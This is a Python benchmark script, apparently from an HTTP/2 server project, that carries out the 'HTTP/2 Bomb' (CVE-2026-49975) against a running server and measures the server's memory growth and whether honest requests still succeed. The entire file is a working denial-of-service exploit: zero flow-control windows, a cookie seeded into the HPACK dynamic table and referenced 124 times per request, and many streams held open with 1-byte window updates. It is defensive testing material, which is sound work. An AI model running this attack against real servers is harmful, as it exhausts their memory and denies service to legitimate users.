#!/usr/bin/env python3
"""The HTTP/2 Bomb (CVE-2026-49975) against a running server, and what it costs the server's memory.

Each connection sets SETTINGS_INITIAL_WINDOW_SIZE to 0, puts one small cookie in the HPACK dynamic table and
opens --streams requests made of --refs one-byte references to it, then holds them: every second a 1-byte
connection WINDOW_UPDATE, so that something always moves. An honest client asks for --path once a second
meanwhile. With --pid, the server's peak RSS (VmHWM, reset first through /proc/PID/clear_refs) is compared with
its RSS before, and its RSS is read again --settle seconds after the attack ended. With --warmup the same
connections and requests are made once, unheld, first: a worker's fixed memory (its 4 MiB pool of receive buffers,
touched as traffic comes; the allocator's metadata) is then resident already, as on any server that has seen
traffic, and the growth measured is what the attack holds.

    bench/bomb.py --port 8080 --pid $(pidof h2serve)            # h2c, 40 x 100 x 124, held 10 s
    bench/bomb.py --port 8443 --tls --pid $(pidof h2serve)

Only talks to 127.0.0.1 (or --host); standard library only.
"""

import argparse
import selectors
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload


def literal(index, value):
    """A literal field without indexing, its name from static table entry index (< 15), value under 127 bytes."""
    return bytes([index, len(value)]) + value


def request_block(scheme, authority, path, refs, first):
    """GET path with refs cookie fields: the first request adds "cookie: a=b" to the dynamic table (index 62),
    every later reference to it is the one byte 0xbe."""
    block = b"\x82" + (b"\x87" if scheme == "https" else b"\x86") + literal(4, path) + literal(1, authority)
    if refs:
        block += (b"\x60\x03a=b" + b"\xbe" * (refs - 1)) if first else b"\xbe" * refs
    return block


def memory(pid, field):
    """A field of /proc/PID/status in KiB (VmRSS, VmHWM)."""
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    raise KeyError(field)


class Conn:
    """A client connection speaking raw frames, reading everything the server sends."""

    def __init__(self, args):
        sock = socket.create_connection((args.host, args.port), timeout=10)
        if args.tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock)
        self.sock, self.buf = sock, b""
        self.headers = self.resets = self.data = 0
        self.goaway = None
        self.closed = False

    def send(self, data):
        try:
            self.sock.sendall(data)
        except OSError:
            self.closed = True

    def pump(self, on_frame=None):
        """Reads what is there (non-blocking), answers SETTINGS and PING, counts the rest."""
        while not self.closed:
            try:
                data = self.sock.recv(1 << 16)
            except (BlockingIOError, ssl.SSLWantReadError, socket.timeout):
                return
            except OSError:
                data = b""
            if not data:
                self.closed = True
                return
            self.buf += data
            while len(self.buf) >= 9:
                length = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + length:
                    break
                kind, flags, sid = self.buf[3], self.buf[4], int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
                payload, self.buf = self.buf[9:9 + length], self.buf[9 + length:]
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self.send(frame(PING, ACK, 0, payload))
                elif kind == HEADERS:
                    self.headers += 1
                elif kind == DATA:
                    self.data += length
                elif kind == RST_STREAM:
                    self.resets += 1
                elif kind == GOAWAY:
                    self.goaway = int.from_bytes(payload[4:8], "big")
                if on_frame:
                    on_frame(kind, flags, sid, payload)


def honest_get(args):
    """One GET of args.path on a new, well-behaved connection: True if it ends with a 200 within 5 s."""
    try:
        conn = Conn(args)
    except OSError:
        return False
    conn.sock.settimeout(0.2)
    status = {}

    def on_frame(kind, flags, sid, payload):
        if sid == 1 and kind == HEADERS:
            status["code"] = payload[:1] == b"\x88"  # :status 200 is static entry 8
        if sid == 1 and flags & END_STREAM and kind in (HEADERS, DATA):
            status["done"] = True

    conn.send(PREFACE + frame(SETTINGS, 0, 0) +
              frame(HEADERS, END_STREAM | END_HEADERS, 1,
                    request_block("https" if args.tls else "http", args.authority, args.path.encode(), 0, True)))
    deadline = time.monotonic() + 5
    while not status.get("done") and not conn.closed and time.monotonic() < deadline:
        conn.pump(on_frame)
    conn.sock.close()
    return bool(status.get("code") and status.get("done"))


def open_attack(args, scheme):
    """The attack's connections, their requests sent; non-blocking from then on."""
    conns = []
    for _ in range(args.conns):
        c = Conn(args)
        settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 0) + struct.pack(">HI", 0x2, 0))
        blocks = b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i,
                  request_block(scheme, args.authority, args.path.encode(), args.refs, i == 0))
            for i in range(args.streams))
        c.send(PREFACE + settings + blocks)
        c.sock.setblocking(False)
        conns.append(c)
    return conns


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", action="store_true", help="h2 over TLS (ALPN) instead of h2c")
    p.add_argument("--conns", type=int, default=40)
    p.add_argument("--streams", type=int, default=100, help="streams per connection")
    p.add_argument("--refs", type=int, default=124, help="cookie references per request")
    p.add_argument("--hold", type=float, default=10, help="seconds the streams are held")
    p.add_argument("--path", default="/hello")
    p.add_argument("--pid", type=int, help="the server's pid, to read its memory")
    p.add_argument("--settle", type=float, default=3, help="seconds after the attack before RSS is read again")
    p.add_argument("--warmup", action="store_true", help="make the connections and requests once, unheld, first")
    args = p.parse_args()
    args.authority = f"{args.host}:{args.port}".encode()
    scheme = "https" if args.tls else "http"

    if args.warmup:
        conns = open_attack(args, scheme)
        time.sleep(0.5)
        for c in conns:
            c.pump()
            c.sock.close()
        time.sleep(args.settle)
    if args.pid:
        with open(f"/proc/{args.pid}/clear_refs", "w") as f:
            f.write("5")  # VmHWM starts again from VmRSS
        rss_before = memory(args.pid, "VmRSS")
    started = time.monotonic()
    conns = open_attack(args, scheme)
    sel = selectors.DefaultSelector()
    for c in conns:
        sel.register(c.sock, selectors.EVENT_READ, c)
    honest_ok = honest_failed = 0
    next_tick = time.monotonic()
    while time.monotonic() - started < args.hold:
        for key, _ in sel.select(timeout=0.1):
            key.data.pump()
        if time.monotonic() >= next_tick:
            next_tick += 1
            for c in conns:
                if not c.closed:
                    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
            if honest_get(args):
                honest_ok += 1
            else:
                honest_failed += 1
    for c in conns:
        c.pump()
    if args.pid:
        hwm = memory(args.pid, "VmHWM")
    open_conns = sum(not c.closed for c in conns)
    print(f"{'TLS' if args.tls else 'h2c'}: {args.conns} conns x {args.streams} streams x {args.refs} refs, "
          f"held {args.hold:g} s: {sum(c.headers for c in conns)} responses' HEADERS, "
          f"{sum(c.resets for c in conns)} RST_STREAM, {sum(c.goaway is not None for c in conns)} GOAWAY "
          f"({sorted({c.goaway for c in conns if c.goaway is not None})}), {open_conns} connections still open")
    print(f"honest client: {honest_ok} answered, {honest_failed} failed")
    for c in conns:
        c.sock.close()
    if args.pid:
        time.sleep(args.settle)
        rss_after = memory(args.pid, "VmRSS")
        print(f"server RSS: {rss_before / 1024:.1f} MiB before, peak {hwm / 1024:.1f} MiB "
              f"(+{(hwm - rss_before) / 1024:.1f} MiB), {rss_after / 1024:.1f} MiB {args.settle:g} s after")
    return 0 if honest_failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
